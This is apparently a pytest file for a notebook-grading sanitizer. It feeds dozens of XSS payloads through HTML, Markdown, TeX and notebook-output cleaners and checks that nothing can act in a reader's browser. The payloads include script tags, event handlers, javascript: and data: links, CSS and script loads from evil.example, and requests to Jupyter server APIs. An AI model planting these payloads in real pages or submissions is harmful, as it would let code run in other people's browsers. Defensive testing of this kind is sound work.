"""What a learner's code shows, and what a learner writes, never acts in a reader's browser."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import nbformat
import pytest
from conftest import ROOT

from grading.engine.judging.cleaning.markdown import clean_markdown
from grading.engine.judging.cleaning.markup import (
    MOST_AMPERSANDS,
    MOST_DEPTH,
    MOST_TAGS,
    TAGS,
    TOO_MUCH,
    HtmlCleaner,
)
from grading.engine.judging.cleaning.notebook import NO_ALT, NotebookCleaner
from grading.engine.judging.cleaning.style import clean_style

NOTEBOOKS = sorted((ROOT / "solutions").glob("[0-9]*/*.ipynb"))
HOSTILE = {
    "script": "<script>fetch('/api/contents/pwned.txt',{method:'PUT'})</script>",
    "script in capitals": "<ScRiPt >alert(1)</sCrIpT >",
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "script cut in two": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script without an end": "<script>alert(1)//",
    "script in SVG": "<svg><script>alert(1)</script></svg>",
    "onerror": "<img src=x onerror=alert(1)>",
    "onerror behind a slash": "<img/src=x/onerror=alert(1)>",
    "onerror on two lines": "<img src=x\nonerror\n=\nalert(1)>",
    "SVG onload": "<svg onload=alert(1)>",
    "SVG that animates": '<svg><a><animate attributeName=href values="javascript:alert(1)"/></a></svg>',
    "SVG use": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "foreign object": "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "srcdoc": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "iframe": "<iframe src='javascript:alert(1)'></iframe>",
    "link": "<a href='javascript:alert(1)'>x</a>",
    "link with tabs": "<a href='java\tscript:alert(1)'>x</a>",
    "link with references": "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "link with newline references": "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    "link with a control in front": "<a href='&#1;javascript:alert(1)'>x</a>",
    "vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "data link": "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "link to the server": "<a href='/api/shutdown'>x</a>",
    "link to a sister": "<a href='\\\\evil.example/x'>x</a>",
    "ping": "<a href='https://a.example' ping='/api/kernels'>x</a>",
    "target of a link": "<a href='https://a.example' target=_top onclick=alert(1)>x</a>",
    "area": "<map name=m><area href='javascript:alert(1)' shape=default></map><img usemap=#m src=x>",
    "style sheet": "<style>@import '//evil.example/x.css'; body{background:url(//evil.example/p)}</style>",
    "style with url": "<div style='background:url(//evil.example/p)'>x</div>",
    "style with an escape": "<div style='background:u\\72l(//evil.example/p)'>x</div>",
    "style that covers": "<div style='position:fixed;inset:0;z-index:9999'>x</div>",
    "style that moves": "<div style='margin-top:-900px'>x</div>",
    "image-set": "<div style='background-image:image-set(\"//evil.example/p\" 1x)'>x</div>",
    "refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "base": "<base href='//evil.example/'>",
    "form": "<form action='/api/kernels' method=post><button>Full credit</button></form>",
    "formaction": "<form id=f></form><button form=f formaction='javascript:alert(1)'>x</button>",
    "input": "<input autofocus onfocus=alert(1)>",
    "object": "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "embed": "<embed src='javascript:alert(1)'>",
    "MathML": "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    "MathML and style": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><img src=x onerror=alert(1)></template>",
    "textarea": "<textarea><img src=x onerror=alert(1)></textarea>",
    "SVG and style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "half a comment": "<!-- --!><img src=x onerror=alert(1)>",
    "link to a style": "<link rel=stylesheet href='//evil.example/x.css'>",
    "prefetch": "<link rel=prefetch href='/api/kernels'>",
    "import": "<link rel=import href='/x.html'>",
    "clobbering": "<a id=submission_id name=base_url></a><img name=getElementById src=x>",
    "data-link": "<span data-link='/x' class='score nbgrader_cell'>x</span>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "video": "<video><source onerror=alert(1)></video>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "body": "<body onload=alert(1)>",
    "frameset": "<frameset onload=alert(1)>",
    "tracking picture": "<img src='https://evil.example/pixel.png'>",
    "srcset": "<img srcset='//evil.example/p 1x' src='data:text/html,x'>",
    "SVG as a picture": "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "TeX link": r"$\href{javascript:alert(1)}{x}$",
    "TeX link in references": "&#36;&#92;hr&#101;f{javascript:alert(1)}{x}&#36;",
    "TeX link in pieces": r"$\hr<b></b>ef{javascript:alert(1)}{x}$ $\hr<!-- -->ef{javascript:alert(1)}{x}$",
    "TeX that loads": r"$\require{html}\class{score}{x}\cssId{base_url}{y}\style{position:fixed}{z}$",
    "TeX token": r"\(\mmlToken{mi}[href='javascript:alert(1)']{x}\)",
    "isindex": "<isindex type=image src=1 onerror=alert(1)>",
    "xmp": "<xmp><img src=x onerror=alert(1)></xmp>",
    "nul": "<scr\0ipt>alert(1)</scr\0ipt><img src=x o\0nerror=alert(1)>",
    "nested select": "<select><template><style><!--</style><a rel='--></style></template></select>"
    "<img src onerror=alert(1)>'>",
}  # fmt: skip
IN_MARKDOWN = {
    "link": "[x](javascript:alert(1))",
    "link in capitals": "[x](JaVaScRiPt:alert(1))",
    "link with a tab": "[x](java&Tab;script:alert(1))",
    "link with references": "[x](&#x6A;avascript&colon;alert(1))",
    "link behind blanks": f"[x]({' ' * 90}javascript:alert(1))",
    "link behind a line": "[x](\njavascript:alert(1))",
    "link in brackets": "[x](<javascript:alert(1)>)",
    "link in brackets with a tab": "[x](<java\tscript:alert(1)>)",
    "link with escapes": r"[x](java\script\:alert(1))",
    "defined link": "[x][1]\n\n[1]: javascript:alert(1)",
    "attachment": "![x](attachment:x)",
    "defined link on two lines": "[x]\n\n[x]:\n  javascript:alert(1)",
    "address": "<javascript:alert(1)>",
    "data": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "to the server": "[x](/api/shutdown)",
    "picture": "![x](x onerror=alert(1))",
    "picture that breaks out": '![x" onerror="alert(1)](https://evil.example/p.png)',
    "picture from elsewhere": "![x](https://evil.example/pixel.png)",
    "picture in a picture": "![a [b](c) d](https://evil.example/pixel.png)",
    "defined picture": "![x][p]\n\n[p]: https://evil.example/pixel.png",
    "tag in code": "`<img src=x onerror=alert(1)>`",
    "tag behind a fence": "```\n~~~\n<img src=x onerror=alert(1)>\n```\n<script>alert(1)</script>",
    "tag on two lines": "<img\nsrc=x\nonerror=alert(1)>",
    "allowed tag that acts": "<span onclick=alert(1)>x</span> <details ontoggle=alert(1) open>",
    "TeX": r"$$\href{javascript:alert(1)}{x}$$",
    "TeX in references": "&#36;\\h&#114;ef{javascript:alert(1)}{x}&#36;",
}  # fmt: skip


class Seen(HTMLParser):
    """What a browser would find in HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        if tag not in TAGS:
            self.wrong.append(tag)
        for name, value in attrs:
            low = re.sub(r"[\s\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or name in ("srcdoc", "ping", "srcset", "formaction", "target", "name"):
                self.wrong.append(name)
            if name.startswith("data-") or "script:" in low:
                self.wrong.append(f"{name}={value}")
            if name == "id" and not low.startswith("shown-"):
                self.wrong.append(f"id {value}")
            if (
                name == "src"
                and low not in ("#", "#harmful-link")
                and not low.startswith("data:image/png;base64,")
            ):
                self.wrong.append(f"src {value}")
            if name == "href" and (low.startswith(("/", "\\", "data:"))):
                self.wrong.append(f"href {value}")
            if name == "style" and any(sign in low for sign in ("url", "position", "image", "\\", "-900")):
                self.wrong.append(f"style {value}")


def acts(html: str) -> list[str]:
    tex = re.findall(r"\\(?:href|require|class|cssId|style|mmlToken)(?![A-Za-z])", html)
    return [*Seen(html).wrong, *tex]


def cleaned(html: str) -> tuple[str, dict[str, None]]:
    found: dict[str, None] = {}
    return HtmlCleaner().clean(html, found), found


@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE)
def test_no_html_acts(payload):
    html, _ = cleaned(f"<p>before</p>{payload}<p>after</p>")
    assert acts(html) == []
    again, _ = cleaned(html)
    assert again == html


@pytest.mark.parametrize("payload", [*HOSTILE.values(), *IN_MARKDOWN.values()], ids=[*HOSTILE, *IN_MARKDOWN])
def test_no_markdown_acts_by_any_of_three_programs(payload):
    found: dict[str, None] = {}
    source = clean_markdown(f"before\n\n{payload}\n\nafter", found)
    assert clean_markdown(source, {}) == source
    for name, html in rendered(source).items():
        left = [one for one in acts(html) if one not in ("h2", "img") and not one.startswith("id ")]
        assert left == [], (name, html)


def rendered(source: str) -> dict[str, str]:
    from markdown_it import MarkdownIt
    from nbconvert.filters.markdown_mistune import IPythonRenderer, MarkdownWithMath

    by_nbconvert = MarkdownWithMath(renderer=IPythonRenderer(escape=False, attachments={})).render(source)
    return {
        "nbconvert": by_nbconvert,
        "markdown-it": MarkdownIt("commonmark").render(source),
        "as html": re.sub(r"(?s)\]\(.*?\)|\]:.*", "", source),
    }


@pytest.mark.parametrize(
    "html",
    [
        '<div style="overflow-x: auto" role="region" aria-label="A table" tabindex="0">'
        '<table class="dataframe" border="1">'
        '<caption style="text-align: left">Bodies</caption><thead><tr style="text-align: right"><th scope="col"></th>'
        '</tr></thead><tbody><tr><td style="min-width: 3em; max-width: 36em">1</td></tr></tbody></table></div>',
        '<details class="mathjax_ignore"><summary>Your answer</summary><ol type="A"><li>x</li></ol></details>',
        '<figure><img alt="Bars" src="data:image/png;base64,iVBORw0KGgo="><figcaption>From S1.</figcaption></figure>',
        '<div class="course-card mathjax_ignore" style="border: 1px solid var(--jp-border-color2, #bdbdbd); '
        'border-left: 4px solid var(--jp-success-color1, #2e7d32)"><span aria-hidden="true">✓</span> Holds.</div>',
        '<a href="https://a.example/x?y=1#z" rel="noopener noreferrer nofollow">x</a> <span lang="zh-Hans">网络</span>',
    ],
    ids=["table", "details", "figure", "card", "link"],
)
def test_what_lessons_show_stays_as_it_is(html):
    assert cleaned(html) == (html, {})


def test_every_output_of_the_lessons_keeps_tags_text_and_style():
    from bs4 import BeautifulSoup

    outputs = [
        "".join(output["data"]["text/html"])
        for path in ROOT.glob("solutions/0[0257]_*/*.ipynb")
        for cell in json.loads(path.read_text(encoding="utf-8"))["cells"]
        for output in cell.get("outputs", [])
        if "text/html" in output.get("data", {})
    ]
    assert len(outputs) > 100
    for html in outputs:
        result, found = cleaned(html)
        before, after = BeautifulSoup(html, "html.parser"), BeautifulSoup(result, "html.parser")
        for sheet in before.find_all("style"):
            sheet.decompose()
        assert found == {}
        assert look(before) == look(after)


def look(soup: Any) -> list[Any]:
    kept = ("style", "class", "alt", "scope", "lang", "role", "aria-label", "type")
    return [
        (
            tag.name,
            tag.get_text(),
            {name: str(tag[name]).replace(" ", "") for name in kept if tag.has_attr(name)},
        )
        for tag in soup.find_all(True)
    ]


def test_a_pandas_table_survives():
    pandas = pytest.importorskip("pandas")
    html = pandas.DataFrame({"a<b": [1, 2], "c": ["<script>x</script>", "d"]})._repr_html_()
    result, found = cleaned(html)
    assert found == {}
    assert "<style" not in result
    for kept in (
        '<table border="1" class="dataframe">',
        "a&lt;b",
        "&lt;script&gt;x&lt;/script&gt;",
        "<th>0</th>",
    ):
        assert kept in result


def test_lessons_texts_are_left_alone():
    for path in ROOT.glob("notebooks/*/[01]*.ipynb"):
        for cell in json.loads(path.read_text(encoding="utf-8"))["cells"]:
            if cell["cell_type"] == "markdown":
                found: dict[str, None] = {}
                source = "".join(cell["source"])
                assert (
                    clean_markdown(source, found).replace(' rel="noopener noreferrer nofollow"', "") == source
                )
                assert found == {}


@pytest.mark.parametrize(
    "source",
    [
        "Privacy <3, and 2 < 3 > 1; a <- b",
        "**bold** [E036]: who says so? [S1 ¶4] see <https://example.org/a?b=c> or [there](https://example.org).",
        "H<sub>2</sub>O<br>and `code`, $x_1 < y$, \\(a\\)\n\n> quoted\n\n- [x](#there)",
        "![chart](attachment:chart.png)",
        "Line “one” & <em>two</em> &amp; three",
    ],
)
def test_plain_writing_stays_letter_by_letter(source):
    found: dict[str, None] = {}
    assert clean_markdown(source, found, attachments=("chart.png",)) == source
    assert found == {}


@pytest.mark.parametrize(
    "source", ["![x](attachment:none)", "![x](attachment&colon;none)", "![x][y]\n\n[y]: attachment:none"]
)
def test_a_missing_attachment_stops_no_page(source):
    from nbconvert.filters.markdown_mistune import InvalidNotebook

    rendered(clean_markdown(source, {}))
    with pytest.raises(InvalidNotebook):
        rendered("![x](attachment:none)")


def output(data: dict[str, Any], **metadata: Any) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": metadata}


def cell(*outputs: dict[str, Any], kind: str = "code", source: str = "x", **more: Any) -> dict[str, Any]:
    about = {"outputs": list(outputs), "execution_count": 1} if kind == "code" else {}
    return {"cell_type": kind, "id": "c", "metadata": {}, "source": source, **about, **more}


KINDS = {
    "application/javascript": "alert(1)",
    "text/javascript": "alert(1)",
    "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
    "application/vnd.vega.v5+json": {"data": {"url": "//evil.example"}},
    "application/vnd.plotly.v1+json": {},
    "image/svg+xml": "<svg onload=alert(1)>",
    "text/vnd.mermaid": "graph TD; click A javascript:alert(1)",
    "application/pdf": "x",
    "application/x-nteract": "x",
    "image/png": 'x" onerror="alert(1)',
}


@pytest.mark.parametrize("mime", KINDS)
def test_other_kinds_of_output_are_taken_out(mime):
    cells = [cell(output({mime: KINDS[mime], "text/plain": "<b>"}), output({mime: KINDS[mime]}))]
    says = NotebookCleaner().clean(cells)
    first, second = cells[0]["outputs"]
    assert first["data"] == {"text/plain": "<b>"}
    assert list(second["data"]) == ["text/plain"]
    assert "taken out" in second["data"]["text/plain"]
    assert len(says) == (0 if "widget" in mime else 1)


def test_metadata_of_outputs_is_a_picture_s_size_and_words():
    given = {
        "isolated": True,
        "text/html": {"isolated": True},
        "filenames": {"image/png": 'x" onerror="alert(1)'},
        "image/png": {"width": "1 onerror=alert(1)", "height": 20, "alt": "Bars", "unconfined": True},
    }
    cells = [
        cell(
            output({"image/png": "iVBOR\n"}, **given),
            output({"image/png": "iVBOR"}),
            output({"text/html": "x"}, **given),
        )
    ]
    assert NotebookCleaner().clean(cells) == []
    shown = [one["metadata"] for one in cells[0]["outputs"]]
    assert shown == [{"image/png": {"alt": "Bars", "height": 20}}, {"image/png": {"alt": NO_ALT}}, {}]


def test_attachments_are_pictures():
    attachments = {
        "a.png": {"image/png": "iVBOR", "text/html": "<script>"},
        'x" onerror="alert(1)': {"image/png": "iVBOR"},
        "b.svg": {"image/svg+xml": "<svg/>"},
        "c.png": {'image/png" onerror="alert(1)': "iVBOR"},
        "d.png": {"image/png": 'x" onerror="alert(1)'},
    }
    cells = [cell(kind="markdown", attachments=attachments)]
    says = NotebookCleaner().clean(cells)
    assert cells[0]["attachments"] == {"a.png": {"image/png": "iVBOR"}}
    assert len(says) == 1


def test_raw_cells_and_markdown_and_latex_outputs_are_cleaned():
    cells = [
        cell(kind="raw", source="<script>alert(1)</script>"),
        cell(output({"text/markdown": HOSTILE["script"]}), output({"text/latex": HOSTILE["TeX link"]})),
    ]
    says = NotebookCleaner().clean(cells)
    assert cells[0]["source"] == "< script>alert(1)< /script>"
    shown = cells[1]["outputs"]
    assert shown[0]["data"]["text/markdown"].startswith("< script>")
    assert shown[1]["data"]["text/latex"] == r"$href{javascript:alert(1)}{x}$"
    ends = ": here it is taken out, and the file that was handed in still has it."
    assert says == [
        f"Cell 1 held what could act in a reader's browser (tags){ends}",
        f"Cell 2 held what could act in a reader's browser (a TeX command, tags){ends}",
    ]


def test_streams_and_errors_stay_text():
    from nbconvert.filters import ansi2html

    stream = {"output_type": "stream", "name": "stdout", "text": "\x1b[31m<img src=x onerror=alert(1)>"}
    error = {
        "output_type": "error",
        "ename": "<b>",
        "evalue": "",
        "traceback": ["\x1b[0;31m<script>alert(1)</script>"],
    }
    cells = [cell(stream, error)]
    assert NotebookCleaner().clean(cells) == []
    assert cells[0]["outputs"] == [stream, error]
    assert acts(ansi2html(stream["text"]) + ansi2html(error["traceback"][0])) == []


def test_a_sentence_holds_no_word_of_a_learner():
    names = "<award-two-points onaward=1 style='x'><b-of-two>"
    cells = [cell(output({"text/html": names, "application/award 2": ""}))]
    (says,) = NotebookCleaner().clean(cells)
    assert "award" not in says
    assert "unknown tags" in says


@pytest.mark.parametrize(
    "unit", ["<div>", "<ul><li>", "<b></p>", "<table>x", "<i></b>", "<svg><div></div>", "<a><p>"]
)
def test_deep_and_long_pages_are_refused(unit):
    html, found = cleaned(unit * 50_000)
    assert (html, found) == ("", {TOO_MUCH: None})
    html, found = cleaned(unit * (2 * MOST_DEPTH))
    assert TOO_MUCH in found


@pytest.mark.parametrize("unit", ["&", "&amp;", "& ", "&a"])
def test_ampersands_are_few(unit):
    """The cleaner takes time for them that grows with the square: a minute for what one submission may show."""
    assert cleaned(unit * (MOST_AMPERSANDS + 1)) == ("", {TOO_MUCH: None})
    html, found = cleaned(unit * 100)
    assert html
    assert found == {}


def test_a_table_of_a_thousand_rows_is_kept():
    rows = "<tr><td>1</td><td>2</td></tr>" * 1_000
    html, found = cleaned(f"<table><tbody>{rows}</tbody></table>")
    assert found == {}
    assert html.count("<tr>") == 1_000
    assert rows.count("<") < MOST_TAGS


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("text-align:left;position:fixed", "text-align: left"),
        ("color: rgb(1, 2, 3); width: calc(1px)", "color: rgb(1, 2, 3)"),
        ("background: red url(x)", ""),
        ("margin: 0 -5px", ""),
        (
            "border:1px solid var(--jp-border-color2, #bdbdbd)",
            "border: 1px solid var(--jp-border-color2, #bdbdbd)",
        ),
        ("content: 'x'; transform: none; animation: a", ""),
        ("font-family: var(--x, 'Noto Sans'), sans-serif", "font-family: var(--x, 'Noto Sans'), sans-serif"),
    ],
)
def test_style_is_kept_by_its_property(style, kept):
    assert clean_style(style) == kept


def test_the_payloads_are_many():
    assert len(HOSTILE) + len(IN_MARKDOWN) + len(KINDS) > 60
    assert Path(__file__).name == "test_cleaning.py"


def test_a_text_that_no_page_can_lay_out_is_a_block_of_code():
    short, many = "A claim [E001], *weighed*.", "[a](" * 2_000 + "\r<b>\r\n\n"
    cells = [
        {"cell_type": "markdown", "source": text, "metadata": {}} for text in (short, many, "word " * 5_000)
    ]
    said = NotebookCleaner().clean(cells)
    assert cells[0]["source"] == short
    assert cells[1]["source"] == "    " + "[a] (" * 2_000 + "\n    < b>\n    \n    "
    assert cells[2]["source"] == "    " + "word " * 5_000
    assert said == [
        f"Cell {number} is longer, or fuller of signs, than a page can lay out: here it stands as plain text, "
        "and the file that was handed in has it as it was."
        for number in (2, 3)
    ]


def test_many_texts_together_are_laid_out_up_to_a_limit():
    cells = [{"cell_type": "markdown", "source": "*a* " * 700, "metadata": {}} for _ in range(100)]
    said = NotebookCleaner().clean(cells)
    laid_out = [cell for cell in cells if not cell["source"].startswith("    ")]
    assert 20 <= len(laid_out) < 50
    assert len(said) == 100 - len(laid_out)


def test_no_lesson_is_too_long_to_be_laid_out():
    for path in NOTEBOOKS:
        cells = [
            dict(cell) for cell in nbformat.read(path, as_version=4).cells if cell.cell_type == "markdown"
        ]
        assert NotebookCleaner().clean(cells) == [], path.name


def test_what_was_cleaned_before_is_named_again():
    for _ in range(2):
        found: dict[str, None] = {}
        assert HtmlCleaner().clean("<p onclick='x()'>a</p><script>b</script>", found) == "<p>a</p>"
        assert set(found) == {"code in an attribute", "script"}
